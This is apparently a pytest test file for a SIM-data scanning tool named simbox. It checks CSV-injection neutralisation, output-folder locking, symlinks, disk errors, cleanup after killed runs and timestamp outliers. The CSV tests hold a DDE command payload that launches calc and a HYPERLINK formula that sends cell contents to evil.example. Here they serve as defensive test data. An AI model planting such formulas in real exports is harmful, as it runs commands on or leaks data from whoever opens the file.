"""Issue 14 items 5, 8 and 9: the output folder under attack, and times far from the data."""
import errno
import json
import os
import signal
import subprocess
import sys
import textwrap
import time

import numpy as np
import pandas as pd
import pytest

from simbox.errors import OutputError
from simbox.outputs import OutputLock, atomic_folder, neutralise_formulas, write_csv
from simbox.scan import SCORES_COLUMNS, assemble, time_outliers
from simbox.sites import load_cells


@pytest.fixture(scope="module")
def result(network):
    return assemble(network.res, network.predictions, load_cells(network.cells), threshold=0.5,
                    summary={"model": "synthetic"})


# ---- item 9: CSV injection ----------------------------------------------------------

def test_formulas_are_neutralised_the_owasp_way(tmp_path):
    df = pd.DataFrame({"address": ['=HYPERLINK("http://x","click")', "+1 street", "-cmd|' /C calc'!A0",
                                   "@SUM(A1)", "\tTAB", "plain", "-12.5", "+3", ""],
                       "n": np.arange(9) - 5})
    write_csv(df, tmp_path / "t.csv")
    back = pd.read_csv(tmp_path / "t.csv", dtype=str, keep_default_na=False)
    assert back["address"].tolist() == ["'=HYPERLINK(\"http://x\",\"click\")", "'+1 street",
                                        "'-cmd|' /C calc'!A0", "'@SUM(A1)", "'\tTAB",
                                        "plain", "-12.5", "+3", ""]
    assert back["n"].tolist() == [str(i) for i in range(-5, 4)]        # numbers untouched
    cr = neutralise_formulas(pd.DataFrame({"a": ["\rCR", "ok"]}))
    assert cr["a"].tolist() == ["'\rCR", "ok"]


def test_formula_from_cells_csv_does_not_reach_sites_csv(network, tmp_path):
    cells = network.cells.copy()
    cells["address"] = '=HYPERLINK("http://evil.example/?"&A1,"Open")'
    res = assemble(network.res, network.predictions, load_cells(cells), threshold=0.5)
    res.write(tmp_path / "out", report=False)
    sites = pd.read_csv(tmp_path / "out" / "sites.csv", dtype=str)
    assert sites["address"].str.startswith("'=HYPERLINK(").all()
    for name in ("sites.csv", "flagged.csv", "deployments.csv", "scores.csv"):
        for line in (tmp_path / "out" / name).read_text().splitlines():
            assert not any(cell.startswith(("=", "@")) for cell in line.split(","))


# ---- scores.csv (issue 12) --------------------------------------------------------------

def test_scores_csv_has_every_sim(result, tmp_path):
    result.write(tmp_path / "out", report=False)
    scores = pd.read_csv(tmp_path / "out" / "scores.csv", dtype={"imsi": str, "msisdn": str})
    assert list(scores.columns) == SCORES_COLUMNS
    assert len(scores) == len(result.features)
    assert scores["score"].is_monotonic_decreasing
    assert scores["flagged"].sum() == len(result.flagged)
    assert set(scores.loc[scores["flagged"], "imsi"]) == set(result.flagged["imsi"])
    assert scores["flagged"].dtype == bool


# ---- item 9: symlink, a second writer, ENOSPC / EROFS ----------------------------------

def test_symlink_out_keeps_the_link_and_replaces_its_target(result, tmp_path):
    target = tmp_path / "real-out"
    result.write(target, report=False)
    link = tmp_path / "latest"
    link.symlink_to(target)
    result.write(link, report=False)
    assert link.is_symlink() and os.readlink(link) == str(target)
    assert (target / "flagged.csv").exists()
    assert sorted(p.name for p in tmp_path.iterdir()) == ["latest", "real-out"]


def test_second_writer_is_refused(result, tmp_path):
    out = tmp_path / "out"
    held = OutputLock(out.absolute()).acquire()
    try:
        with pytest.raises(OutputError) as e:
            result.write(out, report=False)
        assert str(e.value) == (f"{out}: another simbox run (pid {os.getpid()}) is writing this "
                                "output folder; wait for it to finish, or give another --out")
    finally:
        held.release()
    result.write(out, report=False)                       # free again
    assert sorted(p.name for p in tmp_path.iterdir()) == ["out"]


@pytest.mark.parametrize("code, words, hint", [
    (errno.ENOSPC, "no space left on the device", "free some space or give --out on another disk"),
    (errno.EROFS, "read-only file system", "give a writable folder for --out"),
])
def test_disk_errors_name_the_path(result, tmp_path, monkeypatch, code, words, hint):
    import simbox.scan as scan_mod

    def full(df, path):
        raise OSError(code, os.strerror(code))            # as a write() fails: no filename
    monkeypatch.setattr(scan_mod, "write_csv", full)
    out = tmp_path / "out"
    with pytest.raises(OutputError) as e:
        result.write(out, report=False)
    assert str(e.value) == f"{out}: cannot write the scan output: {words}; {hint}"
    assert list(tmp_path.iterdir()) == []                 # no temporary left


# ---- item 8: interrupted runs ------------------------------------------------------------

def test_leftovers_of_a_killed_run_are_removed(result, tmp_path):
    out = tmp_path / "out"
    stale = tmp_path / ".out.k1ll_9x.tmp"
    stale.mkdir()
    (stale / "flagged.csv").write_text("imsi\n460000000000001\n")
    (tmp_path / ".out.lock").write_text("999999999\n")   # the dead owner's pid
    other = tmp_path / ".other.abc.tmp"                  # another folder's: not ours to remove
    other.mkdir()
    result.write(out, report=False)
    assert sorted(p.name for p in tmp_path.iterdir()) == [".other.abc.tmp", "out"]


SLOW_WRITER = textwrap.dedent("""
    import sys, time
    from simbox.outputs import atomic_folder
    with atomic_folder(sys.argv[1]) as tmp:
        (tmp / "flagged.csv").write_text("imsi\\n460000000000001\\n")
        print("ready", flush=True)
        time.sleep(60)
""")


@pytest.mark.parametrize("sig", [signal.SIGTERM, signal.SIGKILL])
def test_sigterm_cleans_up_and_sigkill_leftovers_go_next_time(result, tmp_path, sig):
    out = tmp_path / "out"
    code = "import signal\nsignal.signal(signal.SIGTERM, signal.default_int_handler)\n" + SLOW_WRITER \
        if sig == signal.SIGTERM else SLOW_WRITER
    p = subprocess.Popen([sys.executable, "-c", code, str(out)], stdout=subprocess.PIPE,
                         stderr=subprocess.PIPE, text=True)
    assert p.stdout.readline().strip() == "ready"
    p.send_signal(sig)
    p.wait(timeout=30)
    left = sorted(x.name for x in tmp_path.iterdir())
    if sig == signal.SIGTERM:
        assert left == []
    else:
        assert any(x.endswith(".tmp") for x in left)
        result.write(out, report=False)
        assert sorted(x.name for x in tmp_path.iterdir()) == ["out"]


def test_cli_handles_sigterm_like_sigint(tmp_path):
    from simbox import cli
    assert cli.install_signal_handlers() is None
    assert signal.getsignal(signal.SIGTERM) is cli.terminate
    with pytest.raises(KeyboardInterrupt):
        cli.terminate(signal.SIGTERM, None)


# ---- item 5: times far from the bulk ------------------------------------------------------

def test_one_row_in_2199_does_not_zero_the_priorities(network, caplog):
    res = network.res
    sims = res.sims.copy()
    victim = sims.index[0]
    sims.loc[victim, "last_seen"] = pd.Timestamp("2199-01-01T00:00:00Z")
    out = time_outliers(sims)
    assert out["mask"].sum() == 1 and out["end"] == res.sims["last_seen"].drop(victim).max()
    assert out["message"] == (
        f"1 SIM(s) have events far outside the bulk of the data ({out['summary']['bulk'][0]} to "
        f"{out['summary']['bulk'][1]}), e.g. IMSI {victim} at 2199-01-01T00:00:00Z; they do not "
        f"move the scan's end: recency is measured to {out['summary']['bulk'][1]}")

    import copy
    shifted = copy.copy(res)
    shifted.sims = sims
    clean = assemble(res, network.predictions, load_cells(network.cells), threshold=0.5)
    with caplog.at_level("WARNING", logger="simbox.scan"):
        hit = assemble(shifted, network.predictions, load_cells(network.cells), threshold=0.5)
    assert out["message"] in caplog.text
    assert hit.summary["time_outliers"]["sims"] == 1
    assert hit.summary["time_outliers"]["latest"] == "2199-01-01T00:00:00Z"
    assert hit.summary["last_seen"] == clean.summary["last_seen"]
    assert (hit.deployments["priority"] > 0).all()
    assert sorted(hit.deployments["priority"]) == sorted(clean.deployments["priority"])
    assert clean.summary["time_outliers"] == {"sims": 0}
